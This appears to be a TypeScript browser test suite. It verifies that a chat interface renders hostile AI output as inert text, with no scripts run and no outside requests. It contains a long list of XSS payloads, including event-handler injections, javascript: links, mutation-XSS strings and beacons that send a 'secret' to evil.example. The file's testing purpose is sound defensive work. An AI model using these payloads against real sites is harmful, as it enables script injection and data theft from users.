/** What a hostile model writes stays text: no script runs, and nothing is asked of another server. */
import { join } from 'node:path'
import { build } from 'esbuild'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { chatReply } from '../../src/testing.ts'
import { CHROMIUM, launch } from './chromium.ts'
import { button, openPage, pageHost, replies, say } from './page-host.ts'

/** After the lists of OWASP and of DOMPurify: each would call `hit()`, or ask another server. */
const ATTACKS = [
  '<script>hit()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.example/beacon?secret">',
  '<svg onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><style><img src="</style><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<body onload=hit()>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object><embed src="//evil.example/x">',
  '<video autoplay onplay=hit() src="//evil.example/v.mp4"><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<marquee onstart=hit()>',
  '<a href="javascript:hit()">click</a>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body { background: url(//evil.example/b) }</style>',
  '<meta http-equiv="refresh" content="0; url=//evil.example/">',
  '<base href="//evil.example/">',
  '<form action="//evil.example/"><button>Send</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<template><img src=x onerror=hit()></template>',
  '<div style="background:url(//evil.example/b)">styled</div>',
  '<p id="transcript" name="body" class="skip">clobber</p>',
  '[click](javascript:hit())',
  '[click](JaVaScRiPt:hit())',
  '[click](java\tscript:hit())',
  '[click](&#106;avascript:hit())',
  '[click](data:text/html,<script>hit()</script>)',
  '[click](vbscript:hit())',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/x)',
  '[click](/api/settings)',
  '[click]( https://ok.example/"onmouseover="hit() )',
  '[click](https://ok.example/ "title\\" onmouseover=\\"hit()")',
  '<javascript:hit()>',
  '<https://ok.example/?"onmouseover="hit()>',
  '![beacon](https://evil.example/b.png?secret)',
  '![](//evil.example/b.png)',
  '![x](data:image/svg+xml,<svg/onload=hit()>)',
  '![x](javascript:hit())',
  '![x"onerror="hit()](https://evil.example/b.png)',
  '[![nested](https://evil.example/b.png)](javascript:hit())',
  '[ref]\n\n[ref]: javascript:hit()',
  '![ref]\n\n[ref]: https://evil.example/b.png',
  '```"><img src=x onerror=hit()>\n</code></pre><script>hit()</script>\n```',
  '`<img src=x onerror=hit()>`',
  '| a |\n| - |\n| <img src=x onerror=hit()> |',
  '> <img src=x onerror=hit()>',
  '- <img src=x onerror=hit()>',
  '# <img src=x onerror=hit()>',
  '<!-- <img src=x onerror=hit()> -->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml <img src=x onerror=hit()> ?>',
  '\u0000<scr\u0000ipt>hit()</script>',
  '<img\u2028src=x\u2028onerror=hit()>',
  '<a href="https://ok.example" target="_top" onclick="hit()">ok</a>',
  '__proto__ [__proto__]\n\n[__proto__]: https://ok.example/',
  '[constructor][toString]',
]

/** All elements of the reply, and what of their attributes could do something. */
const lookAt = `(() => {
  const bad = []
  const allowed = /^(p|br|hr|h[1-6]|blockquote|ul|ol|li|strong|em|del|code|pre|a|span|table|thead|tbody|tr|th|td|div|button|svg|path)$/
  for (const element of document.querySelectorAll('.assistant .parts *')) {
    const name = element.localName
    if (!allowed.test(name)) bad.push(name)
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^style$|^src|^srcdoc$|^id$|^name$/.test(attribute)) bad.push(name + ' ' + attribute)
      if (attribute === 'href' && !/^(https?:\\/\\/|mailto:)/.test(value)) bad.push(value)
    }
    if (name === 'a' && element.rel !== 'noopener noreferrer nofollow') bad.push('rel ' + element.rel)
  }
  return bad
})()`

async function hits(page: Page): Promise<number> {
  return Number(await page.evaluate('globalThis.hits ?? 0'))
}

describe.skipIf(CHROMIUM === undefined)('text of a hostile model', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launch()
  })
  afterAll(() => browser.close())

  async function asked(text: readonly string[], allow = /^$/) {
    const { provider, url } = await pageHost()
    provider.next(chatReply(text))
    const page = await openPage(browser, url, { allow })
    await page.evaluate('globalThis.hit = () => (globalThis.hits = (globalThis.hits ?? 0) + 1)')
    await page.evaluate(
      `globalThis.reports = []; addEventListener('securitypolicyviolation', (event) =>
         globalThis.reports.push(event.violatedDirective + ' ' + event.blockedURI))`,
    )
    await say(page, 'hello')
    await button(page, 'Regenerate').waitFor()
    return page
  }

  test.each([
    ['as one reply', [ATTACKS.join('\n\n')]],
    ['in pieces of three units', ATTACKS.join('\n\n').match(/[^]{1,3}/g) ?? []],
  ])('runs nothing and asks nobody, %s', async (_, text) => {
    const page = await asked(text)
    expect(await page.evaluate(lookAt)).toEqual([])
    // Where a pointer or the keyboard could set something off.
    for (const link of await page.locator('.assistant a').all()) await link.hover()
    await page.evaluate(
      "for (const each of document.querySelectorAll('.assistant *')) each.focus?.()",
    )
    expect(await hits(page)).toBe(0)
    expect(await page.evaluate('globalThis.reports')).toEqual([])
  })

  test('lets nothing of it through the second line either', async () => {
    const { url } = await pageHost()
    const { outputFiles } = await build({
      entryPoints: [join(import.meta.dirname, '../../examples/web/src/markdown/sanitizing.ts')],
      bundle: true,
      format: 'iife',
      globalName: 'secondLine',
      footer: { js: 'globalThis.secondLine = secondLine' },
      write: false,
    })
    const page = await browser.newPage()
    onTestFinished(() => page.close())
    const strangers: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(url)) strangers.push(request.url())
    })
    // In place of the page's own script: the policy of trusted types can be made once.
    await page.route('**/page.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: outputFiles[0]?.text ?? '' }),
    )
    await page.goto(url)
    await page.evaluate(`(() => {
      globalThis.hit = () => (globalThis.hits = (globalThis.hits ?? 0) + 1)
      const parts = document.createElement('div')
      parts.className = 'parts'
      document.body.className = 'assistant'
      document.body.append(parts)
      for (const html of ${JSON.stringify(ATTACKS)}) parts.append(secondLine.sanitized(html))
      for (const each of parts.querySelectorAll('*')) each.focus?.()
    })()`)
    const found = await page.evaluate<string[]>(lookAt)
    // The renderer itself says what a link tells of where it came from.
    expect(found.filter((each) => !each.startsWith('rel '))).toEqual([])
    expect(await hits(page)).toBe(0)
    expect(strangers).toEqual([])
  })

  test('shows raw HTML as it was written', async () => {
    const html =
      'before <b onclick="hit()">bold</b> &amp; after\n\n<div class="x">\n  block\n</div>'
    const page = await asked([html])
    const [text] = await replies(page)
    expect(text).toContain('before <b onclick="hit()">bold</b> & after')
    expect(text).toContain('<div class="x">')
  })

  test('makes a picture of another server a link that names its host', async () => {
    const page = await asked([
      '![a cat](https://pictures.example/cat.png) ![](https://pictures.example/2)',
    ])
    const links = page.locator('.assistant a')
    expect(await links.allInnerTexts()).toEqual(['a cat (pictures.example)', 'pictures.example'])
    expect(await page.locator('.assistant img').count()).toBe(0)
  })

  test('shows the files of a reply without asking another server, and no picture that may run', async () => {
    const { engine, url } = await pageHost()
    const dot =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    const svg = btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>')
    const files = [
      ['image/png', 'https://pictures.example/beacon.png'],
      ['image/svg+xml', `data:image/svg+xml;base64,${svg}`],
      ['image/png', dot],
    ] as const
    const content = files.map(
      ([mediaType, file]) => ({ type: 'file', mediaType, url: file }) as const,
    )
    const { id } = await engine.startConversation({
      messages: [
        { role: 'user', content: 'Draw' },
        { role: 'assistant', content },
      ],
    })
    const page = await openPage(browser, `${url}c/${id}`)
    const shown = page.locator('.assistant .file')
    await expect
      .poll(() => shown.allInnerTexts())
      .toEqual(['A file (image/png)', 'A file (image/svg+xml)', ''])
    const sources = page.evaluate('Array.from(document.images, ({ src }) => src)')
    expect(await sources).toEqual([dot])
    await expect.poll(() => page.evaluate('document.images[0].naturalWidth')).toBeGreaterThan(0)
  })

  test('runs nothing of a title, of reasoning, or of a tool and its result', async () => {
    const attack = ATTACKS.join('\n\n')
    const tools = {
      look: { execute: () => ({ [attack]: attack }), inputSchema: { type: 'object' } },
    }
    const { engine, provider, url } = await pageHost({ tools })
    const call = { id: 'c1', name: 'look', arguments: JSON.stringify({ [attack]: attack }) }
    const unknown = { id: 'c2', name: '<img src=x onerror=hit()>', arguments: attack }
    provider.next(
      chatReply([''], { reasoning: [attack], toolCalls: [call, unknown] }),
      chatReply(['That was it.']),
    )
    const { id } = await engine.startConversation({ title: ATTACKS.slice(0, 4).join(' ') })
    const page = await openPage(browser, `${url}c/${id}`)
    await page.evaluate('globalThis.hit = () => (globalThis.hits = (globalThis.hits ?? 0) + 1)')
    await say(page, 'hello')
    await button(page, 'Regenerate').waitFor()
    for (const summary of await page.locator('.assistant summary').all()) await summary.click()
    expect(await page.locator('.tool-card').count()).toBe(2)
    expect(await page.locator('.assistant').innerText()).toContain('onerror')
    const foreign = 'main :is(img, script, style, iframe, object, embed, video, audio, input, form)'
    expect(await page.locator(`${foreign}, [onerror], [onload], [onclick]`).count()).toBe(0)
    expect(await hits(page)).toBe(0)
  })

  test('refuses to make HTML of a text in any other way', async () => {
    const page = await asked(['hello'], /TrustedHTML|TrustedTypePolicy/)
    const refused = await page.evaluate(`(() => {
      const refuse = (work) => { try { work(); return 'made' } catch (error) { return error.name } }
      return [
        refuse(() => (document.body.firstElementChild.innerHTML = '<b>x</b>')),
        refuse(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
        refuse(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text })),
      ]
    })()`)
    expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError'])
  })

  test('shows text that is nested thousands of levels deep, and goes on', async () => {
    const page = await asked([
      `${'>'.repeat(20_000)} deep\n\n${'- '.repeat(5_000)}x\n\n${'['.repeat(20_000)}\n\nafter`,
    ])
    await expect.poll(async () => (await replies(page))[0]).toContain('after')
  })
})
